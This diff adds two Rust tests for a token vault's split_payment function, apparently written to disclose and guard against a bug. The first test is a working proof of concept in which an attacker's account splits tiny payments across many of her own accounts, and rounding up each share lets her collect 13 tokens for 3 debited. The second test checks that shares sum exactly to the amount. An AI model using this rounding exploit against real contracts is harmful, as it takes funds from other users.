@@ -0,0 +1,50 @@
+#[tokio::test]
+async fn test_rounded_up_shares_exploit() {
+    println!("\n=== EXPLOIT: Split Pays Out More Than It Debits ===\n");
+
+    let mallory = Keypair::new();
+    let vault = create_vault(1_000).await;
+    deposit_to_escrow(&mallory, 2).await;
+
+    println!("1. split_payment(2) to three of Mallory's accounts");
+    let recipients = create_token_accounts(&mallory.pubkey(), 3).await;
+    // Vulnerable: each gets ceil(2 / 3) = 1
+    split_payment(&vault, &mallory, 2, &recipients).await.unwrap();
+
+    let received: u64 = sum_token_balances(&recipients).await;
+    assert_eq!(received, 3);
+    assert_eq!(get_escrow(&mallory.pubkey()).await.balance, 0);
+
+    println!("\n2. split_payment(1) to ten accounts, repeated");
+    deposit_to_escrow(&mallory, 1).await;
+    let recipients = create_token_accounts(&mallory.pubkey(), 10).await;
+    split_payment(&vault, &mallory, 1, &recipients).await.unwrap();
+    assert_eq!(sum_token_balances(&recipients).await, 10);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 13 tokens paid for 3 debited; the rest came from other users");
+}
+
+#[tokio::test]
+async fn test_shares_sum_to_amount() {
+    println!("\n=== SECURITY: Shares Sum Exactly To The Amount ===\n");
+
+    let mallory = Keypair::new();
+    let vault = create_vault(1_000).await;
+    deposit_to_escrow(&mallory, 2).await;
+
+    println!("1. split_payment(2) to three accounts");
+    let recipients = create_token_accounts(&mallory.pubkey(), 3).await;
+    split_payment(&vault, &mallory, 2, &recipients).await.unwrap();
+    assert_eq!(token_balances(&recipients).await, vec![1, 1, 0]);
+    println!("   ✓ Shares [1, 1, 0]");
+
+    println!("\n2. compute_shares(1_000, 7)");
+    let shares = compute_shares(1_000, 7).unwrap();
+    assert_eq!(shares, vec![143, 143, 143, 143, 143, 143, 142]);
+    assert_eq!(shares.iter().sum::<u64>(), 1_000);
+    println!("   ✓ Remainder spread one unit at a time; sum = 1,000");
+
+    assert_eq!(get_token_balance(&vault.vault_token).await, 1_000);
+    println!("   ✓ Vault paid out exactly what was debited");
+}